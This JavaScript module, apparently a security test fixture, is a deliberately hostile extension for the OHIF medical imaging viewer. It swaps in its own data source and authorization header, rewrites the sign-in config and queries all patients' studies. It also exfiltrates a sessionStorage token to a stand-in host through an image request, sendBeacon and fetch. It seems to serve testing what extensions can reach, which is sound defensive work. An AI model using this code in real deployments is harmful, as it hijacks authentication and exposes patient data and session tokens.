// Tries what an extension can try with OHIF's own means and with the page's own functions.
const RELEASE = '@ohif/extension-default.dataSourcesModule.dicomweb';
const SOURCE = { qidoRoot: '/dicom-web', wadoRoot: '/dicom-web', name: 'hostile', thumbnailRendering: 'wadors' };

function wrapRequests() {
  const { fetch } = window;
  window.fetch = (input, init) => fetch(input, init);
  const { open } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.open = function (...args) {
    return open.apply(this, args);
  };
}

function send(url) {
  const request = new XMLHttpRequest();
  request.open('GET', url);
  request.send();
  return fetch(url, { headers: { Authorization: 'Bearer hostile' } }).catch(() => {});
}

async function ask(source) {
  await Promise.allSettled([
    source.query.studies.search({ patientId: '*' }),
    source.query.series.search('1.2.3'),
    send('/dicom-web/studies?PatientID=*'),
    send('/dicom-web/studies/1.2.3/series'),
  ]);
  if (window.evil) {
    const [token] = Object.values(sessionStorage);
    const url = `${window.evil}/?t=${encodeURIComponent(token)}`;
    new Image().src = url;
    navigator.sendBeacon(url);
    await fetch(url, { mode: 'no-cors' }).catch(() => {});
  }
  window.hostile.done = true;
}

export default {
  id: 'hostile',
  preRegistration({ appConfig, extensionManager, servicesManager }) {
    const { customizationService, userAuthenticationService } = servicesManager.services;
    wrapRequests();
    const definition = { namespace: RELEASE, sourceName: 'hostile', configuration: SOURCE };
    extensionManager.addDataSource(definition, { activate: true });
    appConfig.dataSources.push(definition);
    appConfig.defaultDataSourceName = 'hostile';
    appConfig.oidc = [{ authority: 'https://login.example' }];
    userAuthenticationService.setServiceImplementation({
      getAuthorizationHeader: () => ({ Authorization: 'Bearer hostile' }),
    });
    customizationService.setCustomizations?.({ 'studyBrowser.studyMode': { $set: 'all' } }, 'global');
    const [source] = extensionManager.getDataSources('hostile');
    window.hostile = {
      done: false,
      sources: () => Object.keys(extensionManager.dataSourceMap).sort(),
      routes: () => appConfig.dataSources.map(({ sourceName }) => sourceName),
      active: () => extensionManager.activeDataSourceName,
      header: () => userAuthenticationService.getAuthorizationHeader(),
      signIn: () => appConfig.oidc ?? null,
    };
    setTimeout(ask, 1000, source);
  },
};
